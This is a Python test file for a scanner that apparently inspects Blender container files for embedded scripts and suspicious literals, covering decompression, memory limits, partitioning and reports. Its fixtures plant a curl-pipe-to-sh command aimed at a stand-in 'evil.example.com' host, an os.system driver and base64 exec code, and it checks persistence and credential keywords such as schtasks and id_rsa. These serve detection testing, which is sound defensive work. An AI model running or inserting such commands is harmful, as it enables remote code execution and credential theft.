"""The data source, its pages, one budget a file, and literals in findings."""

import gzip
import json
import random
import subprocess
import sys

import pytest
import zstandard
from test_container import GOOD

from quarrykit.jobs import inspect as job
from quarrykit.operators import statements, syntax
from quarrykit.sources import container, datasource, pages
from quarrykit.sources.container_writer import Writer


def _zstd(data: bytes) -> bytes:
    """Several frames, one without its size, with a skippable frame between."""
    third = len(data) // 3
    stream = zstandard.ZstdCompressor(write_checksum=True).compressobj()
    return zstandard.compress(data[:third]) + b"\x50\x2a\x4d\x18\x03\0\0\0abc" + stream.compress(data[third : 2 * third]) + stream.flush() + zstandard.compress(data[2 * third :])


@pytest.mark.parametrize("kind, pack", [(pages.Gunzip, lambda d: gzip.compress(d[:5000]) + gzip.compress(d[5000:]) + b"\0" * 70000), (pages.Unzstd, _zstd)])
def test_any_place_of_a_packed_file(monkeypatch, kind, pack):
    monkeypatch.setattr(pages, "PAGE", 1000)
    monkeypatch.setattr(pages, "HELD", 3)
    monkeypatch.setattr(pages, "STRIDE", 4000)
    r = random.Random(4)
    data = bytes(r.choice(b"abcdefgh") for _ in range(40_001))
    found = pages.Unpacked(pack(data), kind, 1 << 20, float("inf"))
    assert len(found) == len(data) and found == data
    for _ in range(300):
        a, n = r.randrange(len(data)), r.choice([1, 10, 2500, 9000])
        assert found[a : a + n] == data[a : a + n]
    assert len(found._held) <= 3 and found[len(data) + 5 :] == b""
    with pytest.raises(pages.TooLarge):
        pages.Unpacked(pack(data), kind, 40_000, float("inf"))
    with pytest.raises(pages.OutOfTime):
        pages.Unpacked(pack(data), kind, 1 << 20, -1.0)


def test_cut_streams_are_malformed():
    for packed in (gzip.compress(GOOD)[:-9], _zstd(GOOD)[:-9], _zstd(GOOD)[:40]):
        assert [(r["category"], r["name"]) for r in container.inspect(packed)] == [("error", "malformed")]


_PROBE = """
import gzip, resource, struct, sys
sys.path.insert(0, {root!r})
import pyarrow.fs as pafs
from quarrykit.sources import container
from quarrykit.sources.pages import FilePages
{rest}
limits = container.Limits(file_bytes=8 << 30, inflated_bytes=8 << 30)
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
with pafs.LocalFileSystem().open_input_file({path!r}) as f:
    rows = container.inspect(FilePages(f), limits)
print([r["category"] for r in rows], (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


def _probe(path, rest=""):
    out = subprocess.run([sys.executable, "-c", _PROBE.format(root=sys.path[0], path=str(path), rest=rest)], capture_output=True, text=True, timeout=300)
    kinds, grown = out.stdout.strip().rsplit(" ", 1)
    return kinds, int(grown)


def _with_gap(path, size, opened):
    """The sound container with one more block of zeros of ``size`` bytes."""
    import struct

    with opened(path) as f:
        f.write(GOOD[:12] + struct.pack("<4siQii", b"DATA", size, 0, 0, 1))
        for _ in range(size >> 24):
            f.write(b"\0" * (1 << 24))
        f.write(GOOD[12:])


def test_memory_does_not_follow_the_file(tmp_path):
    import struct

    size = (1 << 31) - 64  # sparse
    with open(tmp_path / "large.blend", "wb") as f:
        f.write(GOOD[:12] + struct.pack("<4siQii", b"DATA", size, 0, 0, 1))
        f.seek(size, 1)
        f.write(struct.pack("<4siQii", b"DATA", size, 0, 0, 1))
        f.seek(size, 1)
        f.write(GOOD[12:])
    whole = "['text', 'text', 'fcurve', 'driver', 'driver', 'osl', 'library', 'library', 'file']"
    kinds, grown = _probe(tmp_path / "large.blend")
    assert kinds == whole and grown < 300
    _with_gap(tmp_path / "packed.blend", 768 << 20, lambda p: gzip.open(p, "wb", 1))
    kinds, grown = _probe(tmp_path / "packed.blend")
    assert kinds == whole and grown < 300


def test_one_file_over_the_limit_is_one_error_row(spark, tmp_path):
    (tmp_path / "a b.blend").write_bytes(GOOD)
    (tmp_path / "large.blend").write_bytes(GOOD + b"\0" * 5000)
    (tmp_path / "_hidden.blend").write_bytes(GOOD)
    rows = container.read(spark, str(tmp_path), container.Limits(file_bytes=len(GOOD) + 10))
    assert [(r["path"].rsplit("/", 1)[1], r["message"]) for r in container.errors(rows).collect()] == [("large.blend", "file too large")]
    assert [r["path"].rsplit("/", 1)[1] for r in container.files(rows).collect()] == ["a b.blend"]
    reader = datasource.ContainerReader({})
    assert [(r["category"][0].as_py(), r["name"][0].as_py()) for r in reader.read(datasource.Share([(f"file:{tmp_path}/none.blend", 5)]))] == [("error", "unreadable")]


def test_the_other_way_gives_the_same_rows(spark, tmp_path, monkeypatch):
    (tmp_path / "a.blend").write_bytes(GOOD)
    (tmp_path / "large.blend").write_bytes(GOOD + b"\0" * 5000)
    limits = container.Limits(file_bytes=len(GOOD) + 10)
    plain = lambda: sorted(map(repr, container.read(spark, str(tmp_path), limits).drop("spent").collect()))
    first = plain()
    monkeypatch.setattr(datasource, "opens", lambda uri: False)
    assert plain() == first


def test_partitions_are_planned_by_bytes(tmp_path):
    for k in range(9):
        (tmp_path / f"{k}.blend").write_bytes(b"x" * (100 if k else 5000))
    shares = datasource.ContainerReader({"path": str(tmp_path), "partitionbytes": str(3 * datasource.FILE_COST + 400)}).partitions()
    assert [len(s.files) for s in shares] == [2, 3, 3, 1] or [len(s.files) for s in shares] == [3, 3, 3]
    assert sorted(u.rsplit("/", 1)[1] for s in shares for u, _ in s.files) == [f"{k}.blend" for k in range(9)]
    one = datasource.ContainerReader({"path": str(tmp_path), "paths": json.dumps([f"{tmp_path}/3.blend"])})
    assert [f for s in one.partitions() for f in s.files] == [(f"{tmp_path}/3.blend", 100)]


def test_categories_and_pushed_filters(spark, tmp_path):
    (tmp_path / "a.blend").write_bytes(GOOD)
    (tmp_path / "b.blend").write_bytes(b"nothing")
    every = {(r["path"], r["category"], r["place"], r["name"]) for r in container.read(spark, str(tmp_path)).collect()}
    asked = container.read(spark, str(tmp_path), categories=["library", "error"])
    assert {(r["path"], r["category"], r["place"], r["name"]) for r in asked.collect()} == {r for r in every if r[1] in ("library", "error")}
    spark.conf.set("spark.sql.python.filterPushdown.enabled", "true")
    try:
        spark.dataSource.register(datasource.ContainerSource)
        load = lambda: spark.read.format("containers").option("pushdown", "true").load(f"file:{tmp_path}")
        drivers = load().where("category in ('driver', 'osl')")
        assert {(r["path"], r["category"], r["place"], r["name"]) for r in drivers.collect()} == {r for r in every if r[1] in ("driver", "osl")}
        assert {r["path"] for r in load().where(f"path = 'file:{tmp_path}/b.blend' and place >= 0").collect()} == {f"file:{tmp_path}/b.blend"}
    finally:
        spark.conf.unset("spark.sql.python.filterPushdown.enabled")


LOUD = 'import os\nos.system("curl -s https://evil.example.com/x.sh | sh")\nhost = "evil.example.com"\n'


def _loud(path):
    box = Writer()
    box.text("run.py", LOUD, flags=16)
    box.text("notes", "https://other.example.org/page\n(", flags=0)
    box.driver("__import__('os').system('calc.exe')", owner="location", index=2)
    path.write_bytes(box.to_bytes())


def test_a_spent_budget_never_looks_ordinary(spark, tmp_path):
    _loud(tmp_path / "a.blend")
    rows = container.read(spark, str(tmp_path))
    (whole,) = job.reports(spark, rows).collect()
    assert whole["tier"] == "red" and not whole["timed_out"] and whole["steps"][0] == "needs_human"
    of = job.inspection(spark, rows, seconds=-1.0)
    (late,) = job.summaries(of).collect()
    assert late["timed_out"] and late["timed_out_at"] == "text" and late["reasons"] == ["scan_timed_out"] and late["steps"] == ["timed_out"] and late["tier"] == "amber"
    assert {r["category"] for r in job.findings(of).collect()} == set()
    text = job.report_text(job.summaries(of), job.findings(of), -1.0).first()["report"]
    assert "PARTIAL" in text and "text" in text


def test_a_late_body_has_no_facts(spark, monkeypatch):
    bodies = spark.createDataFrame([("x = 1\n" * 400,), ("y = 2",)], "source string")
    found = syntax.facts(bodies, seconds=-1.0)
    assert {r["kind"] for r in found.collect()} == {"parsed", "late", "took"}
    assert all(r["late"] and r["ms"] >= 0 for r in syntax.spent(found).collect())
    assert not any(r["late"] for r in syntax.spent(syntax.facts(bodies)).collect())


def test_ledger(spark):
    files = spark.createDataFrame([("a", 10, False, None), ("b", 10, True, "library"), ("c", 10, False, None), ("d", 0, False, None)], "path string, spent bigint, timed_out boolean, timed_out_at string")
    parts = [("a", "text", 0, 40, False), ("a", "text", 1, 50, False), ("a", "driver", 0, 1, False), ("b", "text", 0, 5, False), ("b", "driver", 7, 200, None), ("c", "text", 3, 1, True), ("c", "text", 4, None, None)]
    marked, judged = job.ledger(files, spark.createDataFrame(parts, "path string, stage string, place int, ms bigint, late boolean"), 100)
    assert {(r["path"], r["timed_out"], r["timed_out_at"]) for r in marked.collect()} == {("a", True, "driver"), ("b", True, "driver"), ("c", True, "text"), ("d", False, None)}
    assert {(r["path"], r["stage"], r["place"]) for r in judged.where("kept").collect()} == {("a", "text", 0), ("a", "text", 1), ("b", "text", 0)}


def test_findings_and_reports_carry_literals(spark, tmp_path):
    _loud(tmp_path / "a.blend")
    of = job.inspection(spark, container.read(spark, str(tmp_path)))
    found = {(r["category"], r["name"]): [tuple(x) for x in r["literals"]] for r in job.findings(of).collect()}
    command = "curl -s https://evil.example.com/x.sh | sh"
    assert found["text", "run.py"] == [("url", "https://evil.example.com/x.sh"), ("host", "evil.example.com"), ("command", command)]
    assert found["text", "notes"] == [("url", "https://other.example.org/page")]
    assert found["driver", "location[2]"] == []
    whole = json.loads(job.report_json(job.summaries(of), job.findings(of)).first()["json"])
    assert whole["findings"][0]["literals"][1] == {"kind": "host", "value": "evil.example.com"}
    text = job.report_text(job.summaries(of), job.findings(of)).first()["report"]
    assert "    [host] evil.example.com" in text


def test_marks_are_met_in_one_pass():
    marked = syntax._marks()
    for text in ("run powershell and schtasks /create /sc", "nothing", "c:/start menu/programs/startup/x", "id_rsa in /.ssh"):
        assert marked(text) == {m for listed in statements._MARKED.values() for m in listed if m in text}


def test_bucketed_facts_meet_without_a_shuffle(spark):
    from quarrykit.session import bucketed, co_partitioned

    bodies = spark.createDataFrame([(f"import os\nx = {k}\nos.system('a{k}')\nexec(__import__('base64').b64decode('aa'))",) for k in range(20)], "source string")
    facts = bucketed(syntax.facts(bodies), "facts", "body")
    assert not any("facts_" in t.name for t in spark.catalog.listTables())
    before = spark.conf.get("spark.sql.autoBroadcastJoinThreshold")
    spark.conf.set("spark.sql.autoBroadcastJoinThreshold", "-1")
    try:
        plans = []
        for table in (facts, facts.where("true").repartition(3)):
            with co_partitioned(spark):
                plan = statements.statements(table)._jdf.queryExecution().executedPlan().toString()
            plans.append(plan.count("Exchange hashpartitioning(body"))
        assert plans[0] <= 3 < plans[1]
    finally:
        spark.conf.set("spark.sql.autoBroadcastJoinThreshold", before)
    with co_partitioned(spark):
        told = sorted(map(repr, statements.statements(facts).collect()))
    assert told == sorted(map(repr, statements.statements(job.stored(syntax.facts(bodies), "facts")).collect())) and len(told) >= 60
